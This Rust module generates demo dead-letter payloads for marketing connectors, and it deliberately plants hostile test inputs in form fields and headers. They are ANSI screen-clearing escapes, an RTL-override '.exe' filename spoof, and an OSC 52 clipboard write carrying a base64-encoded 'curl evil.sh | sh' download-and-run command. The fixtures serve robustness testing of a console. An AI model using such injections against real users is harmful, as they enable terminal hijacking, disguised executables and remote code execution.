//! Realistic dead-letter contents for the demo: JSON payloads per connector kind (names, emails,
//! UTM fields, amounts), a few hostile ones (ANSI escapes, OSC 52, RTL override, a 200 KB body),
//! binary protobuf-ish events, request headers, and time-ordered ids.

use rand::Rng;
use rand::rngs::StdRng;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use super::scenario::PayloadKind;
use crate::domain::Timestamp;

const FIRST: &[&str] = &[
    "Ana", "Jade", "Marcus", "Priya", "Tomás", "Yuki", "Olivia", "Kwame", "Sofia", "Liam", "Zara",
    "Mateo", "Hana", "Noah", "Amara", "Elena",
];
const LAST: &[&str] = &[
    "Silva", "Nguyen", "Okafor", "Sharma", "García", "Tanaka", "Brown", "Mensah", "Rossi",
    "O'Neill", "Haddad", "Kowalski", "Park", "Fischer", "Adeyemi", "Novak",
];
const COMPANIES: &[&str] = &[
    "Glow Labs",
    "Northwind Fitness",
    "Bluebird Studio",
    "Kite & Key",
    "Fernhill Goods",
    "Orbit Coffee",
    "Lumen Skincare",
    "Tidewater Apparel",
];
const DOMAINS: &[&str] = &[
    "gmail.com",
    "outlook.com",
    "icloud.com",
    "proton.me",
    "yahoo.com",
];
const HANDLES: &[&str] = &[
    "@glowwithjade",
    "@fitbymarcus",
    "@priya.eats",
    "@tomas.trails",
];
const CAMPAIGNS: &[&str] = &["q4-glow-launch", "holiday-bundle", "creator-collab-nov"];

/// A time-ordered id: `prefix` + 26 Crockford base32 chars (48-bit ms time, 80 seeded bits),
/// so ids sort by creation time and the same seed yields the same random part.
pub fn new_id(prefix: &str, at_ms: i64, rng: &mut StdRng) -> String {
    const ALPHABET: &[u8; 32] = b"0123456789ABCDEFGHJKMNPQRSTVWXYZ";
    let time = (at_ms.max(0) as u128) & ((1 << 48) - 1);
    let random: u128 = rng.random::<u128>() & ((1 << 80) - 1);
    let value = (time << 80) | random;
    let mut out = String::with_capacity(prefix.len() + 26);
    out.push_str(prefix);
    for i in (0..26).rev() {
        out.push(ALPHABET[((value >> (i * 5)) & 31) as usize] as char);
    }
    out
}

/// Lowercase ASCII for an email local part: accents dropped, apostrophes removed.
fn ascii_fold(name: &str) -> String {
    name.to_lowercase()
        .chars()
        .filter_map(|c| match c {
            'á' | 'à' | 'ä' => Some('a'),
            'é' | 'è' => Some('e'),
            'í' => Some('i'),
            'ó' | 'ö' => Some('o'),
            'ú' | 'ü' => Some('u'),
            c if c.is_ascii_alphanumeric() => Some(c),
            _ => None,
        })
        .collect()
}

fn pick<'a>(rng: &mut StdRng, list: &[&'a str]) -> &'a str {
    list[rng.random_range(0..list.len())]
}

fn hex_token(rng: &mut StdRng, bytes: usize) -> String {
    (0..bytes)
        .map(|_| format!("{:02x}", rng.random::<u8>()))
        .collect()
}

/// Hostile variants planted at fixed positions of the initial backlog (by sequence number).
fn hostile_text(seq: u32) -> Option<&'static str> {
    match seq {
        3 => Some("Jade\u{1b}[2J\u{1b}[31mURGENT\u{1b}[0m"),
        5 => Some("Acme\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}"),
        8 => Some("invoice\u{202e}fdp.exe"),
        _ => None,
    }
}

/// One generated event: the bytes the source sent and how to read them.
pub struct GeneratedPayload {
    pub bytes: Vec<u8>,
    pub binary: bool,
    pub content_type: String,
    pub headers: Vec<(String, String)>,
    /// True when the payload breaks the connector's contract on purpose.
    pub violates_contract: bool,
}

/// Builds the `seq`-th dead-lettered event of a connector at `at`.
pub fn generate(kind: PayloadKind, seq: u32, at: &Timestamp, rng: &mut StdRng) -> GeneratedPayload {
    let first = pick(rng, FIRST);
    let last = pick(rng, LAST);
    let email = format!(
        "{}.{}@{}",
        ascii_fold(first),
        ascii_fold(last),
        pick(rng, DOMAINS)
    );
    let when = at.to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
    let request_id = hex_token(rng, 16);
    let mut violates_contract = false;
    let (value, user_agent) = match kind {
        PayloadKind::HubspotForm => {
            let mut v = json!({
                "form_id": "8f1c2b7e-4d2a-4c1e-9b55-3e0f6a7d9c21",
                "portal_id": 4_821_937,
                "submitted_at": when,
                "email": email,
                "firstname": hostile_text(seq).unwrap_or(first),
                "lastname": last,
                "company": pick(rng, COMPANIES),
                "lead_source": "Influencer - Instagram",
                "influencer_handle": pick(rng, HANDLES),
                "utm_source": "instagram",
                "utm_medium": "influencer",
                "utm_campaign": pick(rng, CAMPAIGNS),
                "utm_content": "story-swipeup",
                "consent_marketing": rng.random_bool(0.8),
                "page_url": "https://acme-growth.example/influencers/glow?utm_source=instagram",
            });
            if seq == 13 {
                // A pasted-in wall of text: the 200 KB payload the console must page through.
                v["message"] = json!("Hi! I'd love to collaborate on your launch. ".repeat(4700));
            }
            if seq % 25 == 11 {
                if let Some(map) = v.as_object_mut() {
                    map.remove("email");
                }
                violates_contract = true;
            }
            (v, "HubSpot Webhooks/2.0")
        }
        PayloadKind::AdConversion => {
            let gclid = format!("Cj0KCQiA{}", hex_token(rng, 10));
            let txn = format!("T-{}", rng.random_range(100_000..999_999));
            let v = json!({
                "event_id": format!("evt_{}", hex_token(rng, 8)),
                "transaction_id": txn,
                "gclid": gclid,
                "conversion_action": "purchase",
                "value": (rng.random_range(1_900..45_000) as f64) / 100.0,
                "currency": "USD",
                "conversion_time": when,
                "dedupe_key": format!("{gclid}:purchase"),
                "campaign": {"id": rng.random_range(10_000_000..99_999_999), "name": pick(rng, CAMPAIGNS)},
                "utm_source": "google",
                "utm_medium": "cpc",
            });
            (v, "conversions-relay/3.4 (+https://acme-growth.example)")
        }
        PayloadKind::CrmSync => {
            let v = json!({
                "api_version": "v1",
                "object": "Lead",
                "sf_id": format!("00Q5e0000{}", hex_token(rng, 3).to_uppercase()),
                "marketo_id": rng.random_range(1_000_000..9_999_999),
                "email": email,
                "lead_status": pick(rng, &["MQL", "SQL", "Nurture", "Recycled"]),
                "lifecycle_stage": pick(rng, &["marketing_qualified", "sales_accepted", "opportunity"]),
                "lead_score": rng.random_range(10..100),
                "owner_email": "dev.patel@acme-growth.example",
                "updated_at": when,
                "changed_fields": ["lead_status", "lead_score"],
            });
            (v, "sfdc-marketo-sync/5.2.1")
        }
        PayloadKind::Enrichment => {
            let company = pick(rng, COMPANIES);
            let domain = format!("{}.example", company.to_lowercase().replace([' ', '&'], ""));
            let v = json!({
                "lead_id": format!("00Q5e0000{}", hex_token(rng, 3).to_uppercase()),
                "email": format!("{}@{}", ascii_fold(first), domain),
                "domain": domain,
                "requested_at": when,
                "fields": ["company.name", "company.metrics.employees", "company.category.industry"],
            });
            (v, "enrichment-worker/1.9")
        }
        PayloadKind::SegmentEvent if seq % 8 == 5 => {
            return binary_event(seq, rng, request_id);
        }
        PayloadKind::SegmentEvent => {
            let v = json!({
                "type": "track",
                "event": "Checkout Completed",
                "messageId": format!("ajs-next-{}", hex_token(rng, 12)),
                "anonymousId": hex_token(rng, 8),
                "userId": format!("u_{}", rng.random_range(1_000..99_999)),
                "timestamp": when,
                "properties": {
                    "order_id": format!("ord_{}", hex_token(rng, 5)),
                    "revenue": format!("{}.{:02}", rng.random_range(9..400), rng.random_range(0..100)),
                    "currency": "USD",
                    "coupon": if rng.random_bool(0.3) { json!("HOLIDAY20") } else { Value::Null },
                    "utm_campaign": pick(rng, CAMPAIGNS),
                },
                "context": {"library": {"name": "analytics.js", "version": "4.1.0"}},
            });
            (v, "Segment.io/1.0")
        }
    };
    let bytes = serde_json::to_vec(&value).unwrap_or_default();
    let mut headers = vec![
        ("content-type".to_string(), "application/json".to_string()),
        ("user-agent".to_string(), user_agent.to_string()),
        ("x-request-id".to_string(), request_id),
    ];
    if let Some(text) = hostile_text(seq).filter(|_| kind == PayloadKind::HubspotForm) {
        // Raw control characters survive here (JSON-escaped on the wire, raw once decoded).
        headers.push(("x-campaign-note".to_string(), text.to_string()));
    }
    if kind == PayloadKind::HubspotForm {
        let signature = hex::encode(Sha256::digest(&bytes));
        headers.push(("x-hubspot-signature".to_string(), signature));
        headers.push(("x-hubspot-signature-version".to_string(), "v2".to_string()));
    }
    GeneratedPayload {
        bytes,
        binary: false,
        content_type: "application/json".to_string(),
        headers,
        violates_contract,
    }
}

/// A protobuf-encoded track event (with 0x00 and 0xFF bytes) whose revenue is a string field.
fn binary_event(seq: u32, rng: &mut StdRng, request_id: String) -> GeneratedPayload {
    let mut bytes = vec![0x0a, 0x12];
    bytes.extend_from_slice(b"Checkout Completed");
    bytes.extend_from_slice(&[0x10, 0x00, 0x00, 0xff, 0xff, 0x01]);
    bytes.extend_from_slice(&[0x22, 0x05]);
    bytes.extend_from_slice(format!("{:02}.99", 10 + seq % 80).as_bytes());
    bytes.extend((0..12).map(|_| rng.random::<u8>()));
    GeneratedPayload {
        bytes,
        binary: true,
        content_type: "application/x-protobuf".to_string(),
        headers: vec![
            (
                "content-type".to_string(),
                "application/x-protobuf".to_string(),
            ),
            (
                "user-agent".to_string(),
                "segment-mobile-ios/4.5.2".to_string(),
            ),
            ("x-request-id".to_string(), request_id),
        ],
        violates_contract: false,
    }
}

/// What the destination answers when it accepts a delivery.
pub fn delivered_body(kind: PayloadKind, dead_letter_id: &str) -> String {
    let short = dead_letter_id.chars().rev().take(8).collect::<String>();
    match kind {
        PayloadKind::HubspotForm => {
            format!(r#"{{"id":"00Q5e0000{short}","success":true,"errors":[]}}"#)
        }
        PayloadKind::AdConversion => r#"{"validationMessages":[]}"#.to_string(),
        PayloadKind::CrmSync => {
            format!(r#"{{"requestId":"{short}","success":true,"result":[{{"status":"updated"}}]}}"#)
        }
        PayloadKind::Enrichment => {
            r#"{"status":"queued","webhook":"enrichment.completed"}"#.to_string()
        }
        PayloadKind::SegmentEvent => r#"{"rows_loaded":1,"status":"LOADED"}"#.to_string(),
    }
}
